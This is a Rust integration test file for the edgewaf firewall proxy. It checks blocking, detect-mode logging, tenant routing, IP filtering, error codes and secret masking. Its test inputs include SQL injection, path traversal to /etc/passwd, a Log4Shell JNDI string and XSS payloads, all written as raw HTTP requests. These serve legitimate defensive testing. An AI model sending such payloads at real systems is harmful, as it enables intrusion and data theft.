//! The proxy with the demo tenants of `policies/`: benign traffic passes,
//! attacks are blocked (or only logged in detect mode), limits hold.

use crate::support::*;

/// The repo's demo tenant file, pointed at the test's echo origin.
fn demo(name: &str) -> String {
    std::fs::read_to_string(repo().join("policies").join(format!("{name}.toml")))
        .unwrap()
        .replace("http://127.0.0.1:8081", "http://{upstream}")
}

fn demo_waf(echo: &Echo) -> Waf {
    Waf::start(
        &echo.addr,
        &[("shop", &demo("shop")), ("staging", &demo("staging"))],
    )
}

const ATTACKS: &[&str] = &[
    // SQL injection tautology in the query.
    "GET /products?id=1%27%20OR%20%271%27%3D%271 HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n",
    // Path traversal.
    "GET /../../etc/passwd HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n",
    // Log4Shell in the User-Agent.
    "GET / HTTP/1.1\r\nHost: {host}\r\nUser-Agent: ${jndi:ldap://x/a}\r\nConnection: close\r\n\r\n",
];

fn xss_form(host: &str) -> String {
    post(
        host,
        "/comment",
        "application/x-www-form-urlencoded",
        "name=bob&comment=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    )
}

#[test]
fn benign_requests_reach_the_origin() {
    let echo = Echo::start();
    let waf = demo_waf(&echo);
    let r = waf.get("shop.localhost", "/products?page=2&sort=price");
    assert_eq!(r.status, 200, "{r:?}");
    assert_eq!(
        r.json()["target"],
        "/products?page=2&sort=price",
        "the echo origin answered"
    );
    assert!(r.header("x-request-id").is_some());
    let body = r#"{"customer":"Seán O'Brien","items":[{"sku":"A-1","qty":2}],"note":"please select the blue one"}"#;
    let r = send(
        &waf.addr,
        &post("shop.localhost", "/orders", "application/json", body),
    );
    assert_eq!(r.status, 200, "{r:?}");
    assert_eq!(r.json()["body"], body, "the origin got the body unchanged");
    let echoed_headers = r.json()["headers"].to_string();
    assert!(
        echoed_headers.contains("x-request-id"),
        "upstream gets the request id: {echoed_headers}"
    );
}

#[test]
fn attacks_are_blocked_with_a_request_id_and_no_internals() {
    let echo = Echo::start();
    let waf = demo_waf(&echo);
    let mut raws: Vec<String> = ATTACKS
        .iter()
        .map(|a| a.replace("{host}", "shop.localhost"))
        .collect();
    raws.push(xss_form("shop.localhost"));
    for raw in &raws {
        let r = send(&waf.addr, raw);
        assert_eq!(r.status, 403, "{raw:?} -> {r:?}");
        let id = r.request_id();
        let body = r.json();
        assert_eq!(body["request_id"], id.as_str());
        assert!(
            !r.body.contains("sig-"),
            "no rule ids in the deny body: {}",
            r.body
        );
        let d = waf.decision(&id);
        assert_eq!(d["action"], "deny", "{d}");
        assert_eq!(d["tenant"], "shop");
        assert!(!d["rule_ids"].as_array().unwrap().is_empty(), "{d}");
    }
}

#[test]
fn detect_mode_passes_attacks_and_logs_the_rule() {
    let echo = Echo::start();
    let waf = demo_waf(&echo);
    let mut raws: Vec<String> = ATTACKS
        .iter()
        .map(|a| a.replace("{host}", "staging.localhost"))
        .collect();
    raws.push(xss_form("staging.localhost"));
    for raw in &raws {
        let r = send(&waf.addr, raw);
        assert_eq!(r.status, 200, "{raw:?} -> {r:?}");
        let d = waf.decision(&r.request_id());
        assert_eq!(d["mode"], "detect");
        assert_eq!(d["action"], "allow");
        assert_eq!(d["would_deny"], "signatures", "{d}");
        let ids = d["rule_ids"].as_array().unwrap();
        assert!(
            ids.iter().any(|i| i.as_str().unwrap().starts_with("sig-")),
            "{d}"
        );
    }
}

#[test]
fn tenants_run_different_chains_and_unknown_hosts_get_421() {
    let echo = Echo::start();
    let waf = demo_waf(&echo);
    // shop runs ip-filter + signatures, staging only signatures in detect mode.
    let shop = waf.get("shop.localhost", "/");
    let staging = waf.get("staging.localhost", "/");
    assert_eq!((shop.status, staging.status), (200, 200));
    let shop_d = waf.decision(&shop.request_id());
    let staging_d = waf.decision(&staging.request_id());
    assert_eq!(shop_d["tenant"], "shop");
    assert_eq!(staging_d["tenant"], "staging");
    let r = waf.get("nobody.example", "/");
    assert_eq!(r.status, 421, "{r:?}");
    assert!(r.header("x-request-id").is_some());
}

#[test]
fn listed_cidr_is_denied_by_ip_filter() {
    let echo = Echo::start();
    let tenant = r#"
hosts = ["ips.test"]
upstream = "http://{upstream}"
[[policy]]
module = "ip-filter"
[policy.config]
deny = ["127.0.0.2/32", "2001:db8::/32"]
"#;
    let waf = Waf::start(&echo.addr, &[("ips", tenant)]);
    let raw = b"GET / HTTP/1.1\r\nHost: ips.test\r\nConnection: close\r\n\r\n";
    let denied = send_bytes_from(&waf.addr, raw, Some("127.0.0.2"));
    assert_eq!(denied.status, 403, "{denied:?}");
    let d = waf.decision(&denied.request_id());
    assert_eq!(d["policy"], "ip-filter");
    assert_eq!(d["client_ip"], "127.0.0.2");
    let allowed = send_bytes_from(&waf.addr, raw, Some("127.0.0.1"));
    assert_eq!(allowed.status, 200, "{allowed:?}");
}

#[test]
fn upstream_down_gives_502_promptly() {
    let dead = format!("127.0.0.1:{}", free_port());
    let tenant = "hosts = [\"down.test\"]\nupstream = \"http://{upstream}\"\n";
    let waf = Waf::start(&dead, &[("down", tenant)]);
    // The 15 s read timeout of `send` turns a hang into a failure.
    let r = waf.get("down.test", "/");
    assert_eq!(r.status, 502, "{r:?}");
    assert!(r.header("x-request-id").is_some());
}

#[test]
fn oversized_and_malformed_requests_get_clear_errors() {
    let echo = Echo::start();
    let waf = Waf::start(
        &echo.addr,
        &[(
            "t",
            "hosts = [\"t.test\"]\nupstream = \"http://{upstream}\"\n",
        )],
    );
    let r = send(
        &waf.addr,
        "POST / HTTP/1.1\r\nHost: t.test\r\nContent-Length: 999999999\r\nConnection: close\r\n\r\n",
    );
    assert_eq!(r.status, 413, "{r:?}");
    let r = send(&waf.addr, "GARBAGE\r\n\r\n");
    assert_eq!(r.status, 400, "{r:?}");
    // The WAF still serves.
    assert_eq!(waf.get("t.test", "/").status, 200);
}

#[test]
fn secrets_are_masked_in_the_decision_log() {
    let echo = Echo::start();
    let waf = demo_waf(&echo);
    // An attack inside the Cookie: the finding's data must not carry the cookie value.
    let raw = "GET /?q=1 HTTP/1.1\r\nHost: shop.localhost\r\nAuthorization: Bearer s3cr3t-t0ken-value\r\nCookie: session=%3Cscript%3Ealert(1)%3C/script%3E-SECRETSESSION\r\nConnection: close\r\n\r\n";
    let r = send(&waf.addr, raw);
    assert_eq!(r.status, 403, "{r:?}");
    let line = waf.decision(&r.request_id()).to_string();
    assert!(!line.contains("s3cr3t-t0ken-value"), "{line}");
    assert!(!line.contains("SECRETSESSION"), "{line}");
}

#[test]
fn check_command_evaluates_offline() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir(dir.path().join("policies")).unwrap();
    std::fs::write(
        dir.path().join("policies/shop.toml"),
        demo("shop").replace("{upstream}", "127.0.0.1:9"),
    )
    .unwrap();
    std::fs::write(
        dir.path().join("edgewaf.toml"),
        format!(
            "[policies]\ndir = \"policies\"\nmodules = [{:?}]\n",
            modules_dir().display().to_string()
        ),
    )
    .unwrap();
    let req = dir.path().join("attack.http");
    std::fs::write(
        &req,
        "GET /?id=1%27%20OR%20%271%27%3D%271 HTTP/1.1\r\nHost: shop.localhost\r\n\r\n",
    )
    .unwrap();
    let out = edgewaf()
        .args(["check", "--config"])
        .arg(dir.path().join("edgewaf.toml"))
        .args(["--tenant", "shop", "--request"])
        .arg(&req)
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(2),
        "blocked → exit 2: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(report["verdict"], "deny");
    assert!(
        report["findings"][0]["rule_id"]
            .as_str()
            .unwrap()
            .starts_with("sig-sqli"),
        "{report}"
    );

    let benign = dir.path().join("benign.json");
    std::fs::write(
        &benign,
        r#"{"method":"GET","target":"/products?page=1","headers":{"host":"shop.localhost"}}"#,
    )
    .unwrap();
    let out = edgewaf()
        .args(["check", "--config"])
        .arg(dir.path().join("edgewaf.toml"))
        .args(["--tenant", "shop", "--request"])
        .arg(&benign)
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let out = edgewaf()
        .args(["check", "--config"])
        .arg(dir.path().join("edgewaf.toml"))
        .args(["--tenant", "nope", "--request"])
        .arg(&benign)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("no tenant \"nope\""));
}
